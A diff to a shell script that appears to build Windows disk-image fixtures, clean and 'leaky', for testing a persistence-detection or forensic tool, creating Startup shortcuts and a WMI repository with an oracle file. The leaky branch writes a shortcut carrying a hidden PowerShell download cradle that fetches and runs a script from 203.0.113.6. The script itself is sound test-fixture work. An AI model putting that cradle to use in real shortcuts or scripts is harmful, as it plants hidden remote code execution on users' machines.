@@ -204,6 +204,31 @@ sys.stdout.buffer.write(bytes(b))" > m/Windows/Temp/setup.exe
   mkdir -p m/ProgramData/svc
   head -c 4096 /dev/urandom > m/ProgramData/svc/xmrig.exe
 fi
+# Shortcuts in the Startup folders (mklnk.py writes them per MS-SHLLINK; lnkinfo, from
+# liblnk-utils, reads back what each runs into lnk.env, the oracle). Every image: a vendor
+# tool's shortcut (the inventory, info). The leaky image adds a shortcut that runs a PowerShell
+# download cradle for every user, and one in alice's own Startup folder whose program is in
+# her profile.
+here=$(dirname "$(realpath "$0")")
+lnk() { # FILE TARGET ARGUMENTS [ENV_TARGET]
+  mkdir -p "$(dirname "$1")"; python3 "$here/mklnk.py" "$@"
+  local info; info=$(lnkinfo "$1")
+  printf 'LNK_%s_TARGET=%s\nLNK_%s_ARGS=%s\n' "$(basename "$1" .lnk)" "$(sed -n 's/^\tLocal path\t*: //p' <<<"$info")" \
+    "$(basename "$1" .lnk)" "$(sed -n 's/^\tCommand line arguments\t*: //p' <<<"$info")" >> lnk.env
+}
+: > lnk.env
+lnk "$startup/BGInfo.lnk" 'C:\Program Files\BGInfo\Bginfo64.exe' '/timer:0 /silent /nolicprompt' '%ProgramFiles%\BGInfo\Bginfo64.exe'
+if [ "$mode" != clean ]; then
+  lnk "$startup/Sync.lnk" 'C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe' \
+    "-NoP -W Hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.6/s.ps1')\""
+  lnk 'm/Users/alice/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/helper.lnk' \
+    'C:\Users\alice\AppData\Local\Helper\helper.exe' '--tray'
+fi
+# The WMI repository (wmi-repository.py lays out OBJECTS.DATA as Windows keeps it): the stock
+# Service Control Manager subscription in every image; in the leaky one, a command-line and a
+# script consumer bound to filters.
+mkdir -p m/Windows/System32/wbem/Repository
+python3 "$here/wmi-repository.py" m/Windows/System32/wbem/Repository/OBJECTS.DATA "$([ "$mode" = clean ] && echo clean || echo leaky)"
 # A harmless stream on a system file, in every image.
 setfattr -n user.Zone.Identifier -v $'[ZoneTransfer]\r\nZoneId=3\r\n' "m/Program Files/Amazon/EC2Launch/EC2Launch.exe"
 
